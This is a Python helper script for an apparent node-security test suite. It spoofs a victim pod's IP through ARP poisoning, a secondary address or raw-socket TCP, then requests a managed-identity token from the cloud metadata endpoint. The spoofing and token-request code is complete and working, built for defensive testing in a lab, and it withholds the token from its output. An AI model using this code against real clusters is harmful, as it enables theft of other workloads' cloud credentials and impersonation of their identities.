"""An attacker's tools for tests/node/test_spoofing.py: run as a program inside an attacker pod's
network namespace (`nsenter -t PID -n python3 spoof.py …`, only after lab.check_pod_namespace),
never imported by the tests. It claims the victim's address in the ways a pod on the lab's bridge
can (CVE-2021-1677 class) and asks for a token from 169.254.169.254:80 with that source.

Attacks (`--attack`):
  secondary-address  the victim's IP as a second address on eth0 (NET_ADMIN in the pod), the
                     pod's neighbour cache flushed, the kernel's TCP bound to it; no ARP forged
  arp-poison         forged ARP (NET_RAW): "the victim's IP is at my MAC" to the bridge's gateway,
                     repeated while the request runs, and the kernel's TCP from the victim's IP
                     (added as in secondary-address)
  raw-syn            a forged SYN from the victim's IP on a raw socket (NET_RAW), no ARP forged:
                     whatever comes back to this pod is read from a packet socket, and the
                     handshake is finished only if a SYN-ACK reaches this pod
  raw-arp-poison     NET_RAW only, the whole CVE-2021-1677 exploit: forged ARP as in arp-poison,
                     then the handshake and the request on raw sockets, the answer read from a
                     packet socket (the victim's IP is never configured here)

Prints one JSON object: whether a connection was made, the HTTP status, whether the answer held
an access token and, if so, only its `appid` and `xms_mirid` claims (never the token: test output
and logs must not carry one).
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time

METADATA = "169.254.169.254"
ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
BROADCAST = b"\xff" * 6


def refuse_the_machines_namespace(machines: str) -> None:
    """The caller checked the namespace; this repeats the one check that matters most
    (`machines`: the machine's namespace as the caller's /proc/self/ns/net names it)."""
    if not machines.startswith("net:[") or os.readlink("/proc/self/ns/net") == machines:
        sys.exit("spoof.py: refusing to run in the machine's network namespace")


def own_mac(interface: str) -> bytes:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP)) as s:
        s.bind((interface, 0))
        return s.getsockname()[4][:6]


def arp_frame(op: int, sender_mac: bytes, sender_ip: str, target_mac: bytes, target_ip: str,
              destination: bytes) -> bytes:
    return (destination + sender_mac + struct.pack("!H", ETH_P_ARP)
            + struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, op)
            + sender_mac + socket.inet_aton(sender_ip) + target_mac + socket.inet_aton(target_ip))


class ArpPoisoner:
    """Tells the gateway, every 50 ms until stopped, that `victim` is at this pod's MAC: an ARP
    request for the gateway's address from the victim's address (Linux overrides its entry for a
    requester), a gratuitous ARP and an unsolicited reply."""

    def __init__(self, interface: str, victim: str, gateway: str) -> None:
        self.mac = own_mac(interface)
        self.frames = [
            arp_frame(1, self.mac, victim, b"\x00" * 6, gateway, BROADCAST),
            arp_frame(1, self.mac, victim, b"\x00" * 6, victim, BROADCAST),
            arp_frame(2, self.mac, victim, BROADCAST, gateway, BROADCAST),
        ]
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP))
        self.socket.bind((interface, 0))
        self.stopped = threading.Event()
        self.sent = 0
        self.thread = threading.Thread(target=self.run, daemon=True)

    def run(self) -> None:
        while not self.stopped.is_set():
            for frame in self.frames:
                self.socket.send(frame)
                self.sent += 1
            self.stopped.wait(0.05)

    def __enter__(self) -> ArpPoisoner:
        self.thread.start()
        time.sleep(0.3)  # a few rounds before the first SYN
        return self

    def __exit__(self, *_exc) -> None:
        self.stopped.set()
        self.thread.join()
        self.socket.close()


def request_bytes(resource: str, client_id: str | None) -> bytes:
    from urllib.parse import urlencode

    query = {"api-version": "2018-02-01", "resource": resource}
    if client_id:
        query["client_id"] = client_id
    return (f"GET /metadata/identity/oauth2/token?{urlencode(query)} HTTP/1.1\r\n"
            f"Host: {METADATA}\r\nMetadata: true\r\nConnection: close\r\n\r\n").encode()


def summary(raw: bytes) -> dict:
    """What the answer was, without the token."""
    head, _, body = raw.partition(b"\r\n\r\n")
    result: dict = {"status": None, "access_token": False}
    try:
        result["status"] = int(head.split(b" ", 2)[1])
    except (IndexError, ValueError):
        return result
    try:
        answer = json.loads(body)
    except ValueError:
        return result
    if isinstance(answer, dict):
        token = answer.get("access_token")
        if token:
            result["access_token"] = True
            payload = token.split(".")[1]
            claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
            result["appid"] = claims.get("appid")
            result["xms_mirid"] = claims.get("xms_mirid")
        result["error"] = answer.get("error")
    return result


def kernel_tcp(source: str, request: bytes, timeout: float) -> dict:
    """The kernel's TCP, bound to `source`."""
    result: dict = {"connected": False}
    raw = b""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(timeout)
        try:
            s.bind((source, 0))
            s.connect((METADATA, 80))
            result["connected"] = True
            s.sendall(request)
            while chunk := s.recv(65536):
                raw += chunk
        except OSError as error:
            result["socket_error"] = repr(error)
    result.update(summary(raw))
    return result


def with_address(interface: str, address: str, action):
    subprocess.run(["ip", "addr", "add", f"{address}/32", "dev", interface], check=True,
                   capture_output=True, text=True)
    # The pod forgets the gateway's MAC, so its kernel asks ARP for it from the claimed address
    # at once (a stale entry would wait ~5 s before probing, and the node would answer the
    # victim meanwhile).
    subprocess.run(["ip", "neigh", "flush", "dev", interface], check=False, capture_output=True)
    try:
        return action()
    finally:
        subprocess.run(["ip", "addr", "del", f"{address}/32", "dev", interface], check=False,
                       capture_output=True)


# --- TCP on raw sockets ----------------------------------------------------------------------------

def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


SYN, ACK, PSH, FIN, RST = 0x02, 0x10, 0x08, 0x01, 0x04


def segment(source: str, port: int, seq: int, ack: int, flags: int, payload: bytes = b"") -> bytes:
    """An IPv4 packet (header included) carrying one TCP segment from source:port to 169.254.169.254:80."""
    src, dst = socket.inet_aton(source), socket.inet_aton(METADATA)
    tcp = struct.pack("!HHIIBBHHH", port, 80, seq, ack, 5 << 4, flags, 65535, 0, 0) + payload
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randrange(65536), 0x4000,
                         64, socket.IPPROTO_TCP, 0, src, dst)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + tcp


class RawTcp:
    """Segments sent from a raw socket with any source address; segments back read from a packet
    socket on eth0 (whatever frames the bridge delivers to this pod)."""

    def __init__(self, interface: str, source: str) -> None:
        self.source, self.port = source, random.randrange(40000, 60000)
        self.out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        # Cooked (SOCK_DGRAM): the IP packet without the Ethernet header.
        self.inp = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
        self.inp.bind((interface, 0))
        self.seen: list[str] = []

    def send(self, seq: int, ack: int, flags: int, payload: bytes = b"") -> None:
        self.out.sendto(segment(self.source, self.port, seq, ack, flags, payload), (METADATA, 0))

    def receive(self, deadline: float):
        """The next segment for source:port, as (seq, ack, flags, payload), or None at the deadline."""
        while (left := deadline - time.monotonic()) > 0:
            self.inp.settimeout(left)
            try:
                packet = self.inp.recv(65536)
            except TimeoutError:
                return None
            if len(packet) < 40 or packet[9] != socket.IPPROTO_TCP:
                continue
            header = (packet[0] & 0x0F) * 4
            if socket.inet_ntoa(packet[16:20]) != self.source:
                continue
            sport, dport, seq, ack, offset, flags = struct.unpack("!HHIIBB", packet[header:header + 14])
            if sport != 80 or dport != self.port:
                continue
            total = struct.unpack("!H", packet[2:4])[0]
            payload = packet[header + (offset >> 4) * 4:total]
            self.seen.append(f"flags={flags:#x} len={len(payload)}")
            return seq, ack, flags, payload
        return None

    def close(self) -> None:
        self.out.close()
        self.inp.close()


def raw_tcp(interface: str, source: str, request: bytes, timeout: float) -> dict:
    """The handshake and the request from `source` on raw sockets. Without a SYN-ACK (it went to
    the victim), an ACK with the request is still sent blind, as an attacker guessing would."""
    tcp = RawTcp(interface, source)
    result: dict = {"connected": False, "syn_ack": False}
    try:
        iss = random.randrange(1 << 32)
        deadline = time.monotonic() + timeout
        tcp.send(iss, 0, SYN)
        answer = None
        while answer is None and time.monotonic() < deadline:
            got = tcp.receive(min(deadline, time.monotonic() + 1))
            if got is None:
                tcp.send(iss, 0, SYN)  # retransmitted, as a kernel would
            elif got[2] & (SYN | ACK) == SYN | ACK and got[1] == (iss + 1) % (1 << 32):
                answer = got
        if answer is None:
            tcp.send((iss + 1) % (1 << 32), random.randrange(1 << 32), ACK | PSH, request)
            result["segments_seen"] = tcp.seen
            result.update(summary(b""))
            return result
        result["syn_ack"] = True
        server_next = (answer[0] + 1) % (1 << 32)
        mine = (iss + 1) % (1 << 32)
        tcp.send(mine, server_next, ACK)
        tcp.send(mine, server_next, ACK | PSH, request)
        mine = (mine + len(request)) % (1 << 32)
        data: dict[int, bytes] = {}
        base = server_next
        while (got := tcp.receive(deadline)) is not None:
            seq, _, flags, payload = got
            if flags & RST:
                result["reset"] = True
                break
            if payload:
                data[(seq - base) % (1 << 32)] = payload
            contiguous = b""
            while len(contiguous) in data:
                contiguous += data[len(contiguous)]
            closed = bool(flags & FIN) and (seq - base) % (1 << 32) + len(payload) == len(contiguous)
            tcp.send(mine, (base + len(contiguous) + closed) % (1 << 32), ACK)
            if contiguous:
                result["connected"] = True
            if closed:
                break
        contiguous = b""
        while len(contiguous) in data:
            contiguous += data[len(contiguous)]
        tcp.send(mine, 0, RST)
        result["segments_seen"] = tcp.seen[:20]
        result.update(summary(contiguous))
        return result
    finally:
        tcp.close()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--attack", required=True,
                        choices=["secondary-address", "arp-poison", "raw-syn", "raw-arp-poison"])
    parser.add_argument("--victim", required=True, help="the victim pod's IP")
    parser.add_argument("--gateway", required=True, help="the bridge's address (the pods' gateway)")
    parser.add_argument("--resource", required=True)
    parser.add_argument("--client-id")
    parser.add_argument("--interface", default="eth0")
    parser.add_argument("--timeout", type=float, default=8)
    parser.add_argument("--machine-netns", required=True,
                        help="the machine's network namespace (readlink /proc/self/ns/net), refused")
    args = parser.parse_args()
    refuse_the_machines_namespace(args.machine_netns)
    request = request_bytes(args.resource, args.client_id)
    started = time.monotonic()
    try:
        result = run_attack(args, request)
    except (OSError, subprocess.CalledProcessError) as error:  # e.g. a capability it lacks
        stderr = getattr(error, "stderr", None)
        result = {"connected": False, "status": None, "access_token": False,
                  "refused": repr(error) + (f": {stderr.strip()}" if stderr else "")}
    result["seconds"] = round(time.monotonic() - started, 2)
    result["capabilities"] = effective_capabilities()
    print(json.dumps(result))


def run_attack(args: argparse.Namespace, request: bytes) -> dict:
    if args.attack == "secondary-address":
        return with_address(args.interface, args.victim,
                            lambda: kernel_tcp(args.victim, request, args.timeout))
    if args.attack == "arp-poison":
        with ArpPoisoner(args.interface, args.victim, args.gateway) as poisoner:
            result = with_address(args.interface, args.victim,
                                  lambda: kernel_tcp(args.victim, request, args.timeout))
        result["arp_frames_sent"] = poisoner.sent
        return result
    if args.attack == "raw-syn":
        return raw_tcp(args.interface, args.victim, request, args.timeout)
    with ArpPoisoner(args.interface, args.victim, args.gateway) as poisoner:
        result = raw_tcp(args.interface, args.victim, request, args.timeout)
    result["arp_frames_sent"] = poisoner.sent
    return result


def effective_capabilities() -> list[str]:
    """This process's effective capabilities that matter here (/proc/self/status)."""
    status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines()
                  if ":\t" in line)
    effective = int(status["CapEff"], 16)
    if effective == (1 << (effective.bit_length())) - 1 and effective.bit_length() > 30:
        return ["all"]
    return [name for bit, name in ((12, "net_admin"), (13, "net_raw")) if effective >> bit & 1]


if __name__ == "__main__":
    main()
